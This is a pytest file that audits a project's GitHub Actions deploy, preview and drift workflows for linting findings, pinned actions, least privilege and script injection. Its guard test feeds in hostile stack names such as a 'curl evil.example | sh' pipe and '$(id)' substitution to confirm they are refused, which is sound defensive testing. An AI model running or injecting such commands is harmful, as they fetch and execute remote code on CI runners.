"""The GitHub Actions workflows in ``.github/workflows``.

They cannot run here, so they are checked the ways a reviewer would:
actionlint and zizmor (offline) must find nothing; every ``inv`` command
they run must exist with the flags they pass; every variable they set must
be one the workspace reads; actions are pinned to commits; and the shell
step that guards the dispatch input really refuses a hostile stack name.
"""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from statekeeper.config import VARIABLES

REPO = Path(__file__).resolve().parent.parent
WORKFLOWS = REPO / ".github" / "workflows"
BIN = Path(sys.executable).parent
FILES = sorted(WORKFLOWS.glob("*.yml"))
PINNED = re.compile(r"^[\w.-]+/[\w.-]+@[0-9a-f]{40}$")
INV_CALL = re.compile(r"\.venv/bin/inv\s+([\w.-]+)((?:\s+--[\w-]+)*)")


def load(path: Path) -> dict[str, Any]:
    doc = yaml.safe_load(path.read_text())
    # YAML 1.1 reads the key `on` as the boolean True.
    doc["on"] = doc.pop(True, doc.get("on"))
    return doc


def steps(doc: dict[str, Any]) -> list[dict[str, Any]]:
    return [step for job in doc["jobs"].values() for step in job["steps"]]


def tool(name: str) -> str:
    binary = BIN / name
    if not binary.exists():
        pytest.fail(f"{name} is missing: pip install -e '.[dev]'")
    return str(binary)


def test_the_three_workflows_exist_with_their_triggers():
    docs = {path.stem: load(path) for path in FILES}
    assert set(docs) >= {"deploy", "preview", "drift"}

    deploy, preview, drift = docs["deploy"], docs["preview"], docs["drift"]
    assert deploy["on"]["push"]["branches"] == ["main"]
    assert preview["on"]["pull_request"]["branches"] == ["main"]
    assert drift["on"]["schedule"][0]["cron"]
    for doc in (deploy, drift):
        stack = doc["on"]["workflow_dispatch"]["inputs"]["stack"]
        assert stack["default"] == "staging"
    assert "inv deploy" in str(steps(deploy))
    assert "inv preview" in str(steps(preview))
    assert "inv drift" in str(steps(drift))


@pytest.mark.parametrize("path", FILES, ids=lambda p: p.name)
def test_actionlint_finds_nothing(path):
    done = subprocess.run([tool("actionlint"), "-no-color", str(path)],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stdout + done.stderr
    assert done.stdout == ""


def test_zizmor_offline_finds_nothing():
    done = subprocess.run(
        [tool("zizmor"), "--offline", "--no-progress", "--color", "never",
         str(WORKFLOWS)],
        capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "No findings" in done.stdout, done.stdout


def test_every_inv_command_exists_with_the_flags_used():
    listed = subprocess.run(
        [tool("inv"), "--search-root", str(REPO), "--list"],
        capture_output=True, text=True, timeout=120, check=True).stdout
    tasks = {line.split()[0] for line in listed.splitlines()
             if line.startswith("  ") and line.strip()}
    calls = [match for path in FILES
             for match in INV_CALL.findall(path.read_text())]
    assert calls
    for name, flags in calls:
        assert name in tasks, f"inv {name} is not a task"
        usage = subprocess.run(
            [tool("inv"), "--search-root", str(REPO), "--help", name],
            capture_output=True, text=True, timeout=120, check=True).stdout
        for flag in flags.split():
            assert flag in usage, f"inv {name} has no {flag}"


def test_every_variable_set_is_one_the_workspace_reads():
    for path in FILES:
        doc = load(path)
        blocks = [doc.get("env") or {}]
        for job in doc["jobs"].values():
            blocks.append(job.get("env") or {})
            blocks += [step.get("env") or {} for step in job["steps"]]
        for block in blocks:
            unknown = set(block) - set(VARIABLES)
            assert not unknown, f"{path.name} sets {sorted(unknown)}"


@pytest.mark.parametrize("path", FILES, ids=lambda p: p.name)
def test_least_privilege_pinned_and_injection_safe(path):
    doc = load(path)
    text = path.read_text()
    assert doc["permissions"] == {}
    assert "PULUMI_ACCESS_TOKEN" not in text
    assert "concurrency" in doc
    for job in doc["jobs"].values():
        assert job["permissions"] == {"contents": "read",
                                      "id-token": "write"}
        runs = [step["run"] for step in job["steps"] if "run" in step]
        assert "bash scripts/setup.sh" in runs
        assert all("${{" not in run for run in runs), "expression in run"
        used = {step["uses"].split("@")[0]: step for step in job["steps"]
                if "uses" in step}
        assert used["actions/checkout"]["with"]["persist-credentials"] is (
            False)
        credentials = used["aws-actions/configure-aws-credentials"]["with"]
        assert credentials["role-to-assume"] == "${{ vars.AWS_ROLE_ARN }}"
        assert credentials["aws-secret-access-key"] == (
            "${{ secrets.AWS_SECRET_ACCESS_KEY }}")
    for line in text.splitlines():
        if line.strip().startswith(("- uses:", "uses:")):
            ref, _, comment = line.split("uses:", 1)[1].partition("#")
            assert PINNED.match(ref.strip()), line
            assert re.match(r"\s*v\d+\.\d+\.\d+", comment), line
    assert (REPO / "scripts" / "setup.sh").is_file()


def guard_script() -> str:
    doc = load(WORKFLOWS / "deploy.yml")
    [script] = [step["run"] for step in steps(doc)
                if step.get("name", "").startswith("Check the stack")]
    return script


@pytest.mark.parametrize("stack, passphrase, code", [
    ("staging", "secret", 0),
    ("prod.eu-1", "secret", 0),
    ("staging; curl evil.example | sh", "secret", 2),
    ("$(id)", "secret", 2),
    ("staging\nprod", "secret", 2),
    ("", "secret", 2),
    ("staging", "", 2),
], ids=["plain", "dots and dashes", "shell command", "substitution",
        "two lines", "empty", "no passphrase"])
def test_dispatch_guard_refuses_hostile_stack_names(stack, passphrase,
                                                    code):
    done = subprocess.run(
        ["bash", "-euo", "pipefail", "-c", guard_script()],
        env={"PATH": "/usr/bin:/bin", "PULUMI_STACKS": stack,
             "PULUMI_SECRETS_PROVIDER": "passphrase",
             "PULUMI_CONFIG_PASSPHRASE": passphrase},
        capture_output=True, text=True, timeout=30)
    assert done.returncode == code, done.stdout + done.stderr
    if code:
        assert done.stdout.startswith("::error::")
